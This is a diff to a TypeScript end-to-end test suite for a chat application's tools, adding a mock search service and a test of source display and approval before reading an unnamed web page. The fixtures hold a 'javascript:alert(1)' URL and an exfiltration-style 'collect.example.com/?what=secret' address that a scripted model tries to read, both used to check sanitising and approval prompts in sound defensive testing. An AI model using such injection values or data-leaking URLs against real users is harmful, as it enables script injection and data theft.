@@ -5,22 +5,34 @@ import { newVisitor, openBrowser } from "./browser";
 import { CallingModel } from "./calling-model";
 import { AccountPages, somebody } from "./pages/account";
 import { ChatPage } from "./pages/chat";
+import { SearchService } from "./search-service";
 import { Server } from "./server";
 
 describe("tools in a chat", () => {
   let browser: Browser;
   let calling: CallingModel;
+  let search: SearchService;
   let server: Server;
 
   beforeAll(async () => {
     browser = await openBrowser();
     calling = await CallingModel.start();
-    server = await Server.start({ OPENAI_BASE_URL: calling.model.url, LLM_MODEL: "gpt-5.4-mini" });
+    search = await SearchService.start([
+      { url: "https://example.com/valve", title: "The <b>valve</b>", content: "It opens at 6.2 bar." },
+      { url: "javascript:alert(1)", title: "No address", content: "This has none." },
+      { url: "https://example.org/pump", title: "The pump", content: "It pumps." },
+    ]);
+    server = await Server.start({
+      OPENAI_BASE_URL: calling.model.url,
+      LLM_MODEL: "gpt-5.4-mini",
+      SEARCH_URL: search.url,
+    });
   });
   afterAll(async () => {
     await browser?.close();
     await server?.stop();
     calling?.model.stop();
+    search?.stop();
   });
 
   const lines = (page: Page) => page.getByTestId("tool-call");
@@ -108,6 +120,41 @@ describe("tools in a chat", () => {
     await mark.click();
     await page.getByRole("switch", { name: "Calculator", checked: true }).waitFor();
     expect(await clock.isChecked()).toBe(false);
+  });
+
+  it("opens the source of a number in an answer, and asks before a page is read that nobody named", async () => {
+    const { page, complaints, chat } = await enter();
+    const foreign: string[] = [];
+    page.on("request", (request) => foreign.push(new URL(request.url()).host));
+    await switchOn(page, "Web search", "Web page");
+    const question = calling.plan(
+      "When does the valve open?",
+      [["web_search", { query: "valve" }]],
+      [["read_page", { url: "https://collect.example.com/?what=secret" }]],
+    );
+    calling.close(question, "At 6.2 bar [1].");
+    await chat.ask(question);
+    await cards(page).getByText("https://collect.example.com/?what=secret").waitFor();
+    await cards(page).getByRole("button", { name: "Decline" }).click();
+    expect(await chat.ended(1)).toContain("At 6.2 bar");
+    expect(await texts(lines(page))).toEqual([
+      expect.stringMatching(/^Searched the web · 2 results · \d+(\.\d)? s$/),
+      "Web page · declined",
+    ]);
+    await page.reload();
+    await chat.answer(1).getByRole("button", { name: "Source 1: The valve" }).click();
+    const source = page.getByTestId("source-view");
+    expect(await texts(source)).toEqual([
+      expect.stringMatching(/^The valve example\.com .*It opens at 6\.2 bar\./),
+    ]);
+    const link = source.getByRole("link");
+    expect(await link.getAttribute("href")).toBe("https://example.com/valve");
+    expect(await link.getAttribute("rel")).toContain("noopener");
+    await page.keyboard.press("Escape");
+    await page.getByTestId("sources").getByRole("button", { name: "2 sources" }).click();
+    await page.getByRole("button", { name: "Source 2: The pump" }).waitFor();
+    expect(new Set(foreign)).toEqual(new Set([new URL(server.url).host]));
+    expect(complaints.list()).toEqual([]);
   });
 
   it("keeps a decision waiting over a reload, says so everywhere, and goes on after it", async () => {
